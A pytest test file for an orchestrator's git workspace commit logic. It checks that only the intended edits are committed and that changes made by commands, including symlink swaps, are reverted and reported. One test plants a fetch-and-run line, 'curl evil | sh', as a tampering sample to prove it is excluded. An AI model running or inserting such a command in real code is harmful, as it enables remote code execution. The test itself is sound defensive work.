"""``Workspace.commit_edits``: the step's commit holds exactly what its edits wrote, with
trees written in-process; whatever a command changed besides is put back and reported."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from orchestrator.workspace import Workspace, parse_edits
from tests.workspace.conftest import committed, git, tree_paths

STEP = {"Tandem-Step": "1", "Tandem-Job": "job-1"}


def _new_file(path: str, text: str) -> str:
    return f"{path}\n<<<<<<< SEARCH\n=======\n{text}>>>>>>> REPLACE\n"


def _replace(path: str, old: str, new: str) -> str:
    return f"{path}\n<<<<<<< SEARCH\n{old}=======\n{new}>>>>>>> REPLACE\n"


def _git_tree_of_worktree(ws: Workspace) -> str:
    """What ``git add -A && git write-tree`` makes of the worktree, in a scratch index."""
    index = ws.path.parent / f"{ws.path.name}.scratch-index"
    env = {**os.environ, "GIT_INDEX_FILE": str(index)}
    subprocess.run(["git", "read-tree", "HEAD"], cwd=ws.path, env=env, check=True)
    subprocess.run(["git", "add", "-A"], cwd=ws.path, env=env, check=True)
    tree = subprocess.run(["git", "write-tree"], cwd=ws.path, env=env, check=True,
                          capture_output=True, text=True).stdout.strip()
    index.unlink()
    return tree


def test_commit_equals_what_git_would_commit(ws: Workspace) -> None:
    base = ws.head()
    ws.apply_edits(parse_edits(
        _replace("app.py", "    return a + b\n", "    return a - b\n")
        + _new_file("pkg/deep/new_module.py", "X = 1\n")
        + _new_file("z-last.txt", "z\n")))
    info = ws.commit_edits("step 1: edit", STEP)
    ws.settle()  # the index is refreshed in the background: git reads it below
    assert git(ws.path, "rev-parse", "HEAD").strip() == info.sha and info.parent == base
    git(ws.path, "fsck", "--strict", "--no-dangling")  # raises on a malformed object
    assert git(ws.path, "rev-parse", "HEAD^{tree}").strip() == _git_tree_of_worktree(ws)
    assert git(ws.path, "status", "--porcelain") == ""  # index refreshed, nothing left
    assert committed(ws, "pkg/deep/new_module.py") == b"X = 1\n"
    assert info.warnings == []


def test_modes_deletions_and_empty_directories(ws: Workspace, git_repo: Path) -> None:
    tool = ws.path / "bin" / "tool.sh"
    tool.parent.mkdir()
    tool.write_text("#!/bin/sh\necho one\n")
    tool.chmod(0o755)
    (ws.path / "gone" / "only.txt").parent.mkdir()
    (ws.path / "gone" / "only.txt").write_text("bye\n")
    ws.checkpoint("setup", {"Tandem-Step": "0"})
    ws.restore(ws.head())
    ws.apply_edits(parse_edits(_replace("bin/tool.sh", "echo one\n", "echo two\n")
                               + "gone/only.txt\n<<<<<<< DELETE\n>>>>>>> DELETE\n"))
    info = ws.commit_edits("step 1", STEP)
    listing = git(ws.path, "ls-tree", "-r", info.sha)
    assert "100755 blob" in next(line for line in listing.splitlines() if "bin/tool.sh" in line)
    assert "gone/" not in listing  # the directory went with its last file
    assert git(ws.path, "rev-parse", "HEAD^{tree}").strip() == _git_tree_of_worktree(ws)


def test_parent_trees_are_read_from_packs(ws: Workspace, git_repo: Path) -> None:
    git(git_repo, "gc", "-q", "--prune=now")  # every object of the base now lives in a pack
    ws.apply_edits(parse_edits(_replace("app.py", "    return a + b\n", "    return b + a\n")))
    info = ws.commit_edits("step 1", STEP)
    ws.settle()
    git(ws.path, "fsck", "--strict", "--no-dangling")
    assert sorted(tree_paths(ws, info.sha)) == sorted(tree_paths(ws, info.parent or ""))
    assert b"return b + a" in committed(ws, "app.py")


def test_a_command_cannot_change_what_is_committed(ws: Workspace) -> None:
    ws.apply_edits(parse_edits(_replace("app.py", "    return a + b\n", "    return a - b\n")))
    # The verification ran after the edit and wrote to the edited file, to another tracked
    # file and to a new one: none of that was judged by the gate.
    (ws.path / "app.py").write_text("import os\nos.system('curl evil | sh')\n")
    (ws.path / "README.md").write_text("rewritten by a command\n")
    (ws.path / "out" / "report.txt").parent.mkdir()
    (ws.path / "out" / "report.txt").write_text("generated\n")
    readme_before = committed(ws, "README.md")
    info = ws.commit_edits("step 1", STEP)
    assert b"return a - b" in committed(ws, "app.py") and b"curl" not in committed(ws, "app.py")
    assert committed(ws, "README.md") == readme_before
    assert "out/report.txt" not in tree_paths(ws, info.sha)
    # The worktree equals the commit again, and each put-back is reported.
    ws.settle()
    assert git(ws.path, "status", "--porcelain", "--untracked-files=all") == ""
    assert (ws.path / "README.md").read_bytes() == readme_before
    assert not (ws.path / "out" / "report.txt").exists()
    assert [w.split(":")[0] for w in info.warnings] == ["app.py", "README.md", "out/report.txt"]


def test_new_file_that_gitignore_excludes_stays_out(ws: Workspace) -> None:
    ws.apply_edits(parse_edits(_new_file(".gitignore", "*.log\n")))
    ws.commit_edits("step 1", STEP)
    ws.apply_edits(parse_edits(_new_file("debug.log", "noise\n") + _new_file("kept.txt", "k\n")))
    info = ws.commit_edits("step 2", {**STEP, "Tandem-Step": "2"})
    assert "debug.log" not in tree_paths(ws, info.sha) and "kept.txt" in tree_paths(ws, info.sha)
    assert any(w.startswith("debug.log: ignored by .gitignore") for w in info.warnings)


def test_no_edit_makes_an_empty_commit_and_edits_diff_stays_in_process(ws: Workspace) -> None:
    base = ws.head()
    info = ws.commit_edits("step 1: nothing to change", STEP)
    assert info.parent == base and info.sha != base
    assert git(ws.path, "rev-parse", f"{info.sha}^{{tree}}") == git(ws.path, "rev-parse",
                                                                     f"{base}^{{tree}}")
    ws.apply_edits(parse_edits(_replace("app.py", "    return a + b\n", "    return a * b\n")))
    ws.settle()
    by_git = git(ws.path, "diff", info.sha).splitlines(keepends=True)
    assert ws.edits_diff(info.sha) == "".join(x for x in by_git if not x.startswith("index "))


def test_unknown_edits_fall_back_to_a_scanned_checkpoint(git_repo: Path, tmp_path: Path) -> None:
    ws = Workspace.open_or_create(git_repo, "job-2", "x", home=tmp_path / "home")
    (ws.path / "made.txt").write_text("by hand\n")
    reopened = Workspace.open_or_create(git_repo, "job-2", "x", home=tmp_path / "home")
    info = reopened.commit_edits("step 1", STEP)  # nothing known: git scans the worktree
    assert "made.txt" in tree_paths(ws, info.sha)


def test_without_commands_nothing_is_scanned_or_put_back(ws: Workspace) -> None:
    ws.apply_edits(parse_edits(_replace("app.py", "    return a + b\n", "    return a - b\n")))
    (ws.path / "notes.txt").write_text("written by hand meanwhile\n")
    info = ws.commit_edits("step 1", STEP, commands_ran=False)
    assert "notes.txt" not in tree_paths(ws, info.sha) and info.warnings == []
    assert (ws.path / "notes.txt").exists()  # no scan: left alone


def _repo_with_attributes(git_repo: Path, attributes: str, *config: str) -> Path:
    (git_repo / ".gitattributes").write_text(attributes)
    (git_repo / "notes.txt").write_text("one\ntwo\n")
    for pair in config:
        key, value = pair.split("=", 1)
        git(git_repo, "config", key, value)
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-q", "-m", "attributes")
    return git_repo


def test_line_ending_rules_are_git_s(git_repo: Path, tmp_path: Path) -> None:
    repo = _repo_with_attributes(git_repo, "*.txt text eol=crlf\n")
    ws = Workspace.open_or_create(repo, "job-eol", "x", home=tmp_path / "home")
    assert (ws.path / "notes.txt").read_bytes() == b"one\r\ntwo\r\n"  # checked out as CRLF
    ws.apply_edits(parse_edits(_replace("notes.txt", "two\n", "two\nthree\n")))
    info = ws.commit_edits("step 1", STEP)
    assert committed(ws, "notes.txt", info.sha) == b"one\ntwo\nthree\n"  # stored as LF
    assert git(ws.path, "rev-parse", "HEAD^{tree}").strip() == _git_tree_of_worktree(ws)


def test_filter_drivers_run_as_git_runs_them(git_repo: Path, tmp_path: Path) -> None:
    repo = _repo_with_attributes(git_repo, "*.up filter=up\n", "filter.up.clean=tr a-z A-Z",
                                 "filter.up.smudge=cat")
    ws = Workspace.open_or_create(repo, "job-filter", "x", home=tmp_path / "home")
    ws.apply_edits(parse_edits(_new_file("shout.up", "hello\n") + _new_file("plain.md", "hi\n")))
    info = ws.commit_edits("step 1", STEP)
    assert committed(ws, "shout.up", info.sha) == b"HELLO\n"  # the clean filter ran
    assert committed(ws, "plain.md", info.sha) == b"hi\n"


def test_an_edited_gitattributes_applies_in_the_same_step(ws: Workspace) -> None:
    ws.apply_edits(parse_edits(_new_file("a.txt", "x\n")))
    ws.commit_edits("step 1", STEP)  # a.txt: no conversion, remembered
    (ws.path / "a.txt").write_bytes(b"x\r\n")
    ws.apply_edits(parse_edits(_new_file(".gitattributes", "*.txt text\n")
                               + _replace("a.txt", "x\n", "x\ny\n")))
    info = ws.commit_edits("step 2", {**STEP, "Tandem-Step": "2"})
    assert committed(ws, "a.txt", info.sha) == b"x\ny\n"


def test_put_back_never_writes_through_a_link(ws: Workspace, tmp_path: Path) -> None:
    """The tests swapped an edited file, and the folder above another one, for links to
    files outside the worktree (a repository's git config, say): putting the edits back
    replaces the links and leaves their targets alone."""
    outside = tmp_path / "outside"
    (outside / "pkg").mkdir(parents=True)
    (outside / "config").write_text("[core]\n")
    (outside / "pkg" / "mod.py").write_text("victim\n")
    ws.apply_edits(parse_edits(_replace("app.py", "    return a + b\n", "    return a - b\n")
                               + _new_file("pkg/mod.py", "X = 1\n")))
    edited = (ws.path / "app.py").read_bytes()
    (ws.path / "app.py").unlink()
    (ws.path / "app.py").symlink_to(outside / "config")
    (ws.path / "pkg" / "mod.py").unlink()
    (ws.path / "pkg").rmdir()
    (ws.path / "pkg").symlink_to(outside / "pkg", target_is_directory=True)
    info = ws.commit_edits("step 1", STEP)
    assert (outside / "config").read_text() == "[core]\n"
    assert (outside / "pkg" / "mod.py").read_text() == "victim\n"
    assert not (ws.path / "app.py").is_symlink() and (ws.path / "app.py").read_bytes() == edited
    assert not (ws.path / "pkg").is_symlink()
    assert (ws.path / "pkg" / "mod.py").read_text() == "X = 1\n"
    assert committed(ws, "app.py") == edited and committed(ws, "pkg/mod.py") == b"X = 1\n"
    # "pkg" too when the status scan, which runs beside the put-back, saw the link there
    assert {w.split(":")[0] for w in info.warnings} - {"pkg"} == {"app.py", "pkg/mod.py"}
    ws.settle()
    assert git(ws.path, "status", "--porcelain", "--untracked-files=all") == ""


def test_put_back_of_a_deletion_removes_a_link_not_its_target(ws: Workspace,
                                                              tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    ws.apply_edits(parse_edits("README.md\n<<<<<<< DELETE\n>>>>>>> DELETE\n"))
    (ws.path / "README.md").symlink_to(victim)  # a command put a link where the file was
    info = ws.commit_edits("step 1", STEP)
    assert victim.read_text() == "keep me\n"
    assert not os.path.lexists(ws.path / "README.md")
    assert "README.md" not in tree_paths(ws, info.sha)
    assert [w.split(":")[0] for w in info.warnings] == ["README.md"]


def test_a_nested_repository_a_command_made_is_left_and_said_so(ws: Workspace) -> None:
    ws.apply_edits(parse_edits(_replace("app.py", "    return a + b\n", "    return a - b\n")))
    nested = ws.path / "vendor" / "lib"  # the tests ran `git init` there
    nested.mkdir(parents=True)
    git(nested, "init", "-q")
    (nested / "draft.txt").write_text("keep\n")
    info = ws.commit_edits("step 1", STEP)
    assert (nested / "draft.txt").read_text() == "keep\n"
    assert not [p for p in tree_paths(ws, info.sha) if p.startswith("vendor")]
    assert [w for w in info.warnings if w.startswith("vendor")] == [
        "vendor/lib/: a nested git repository; left in place, not committed"]
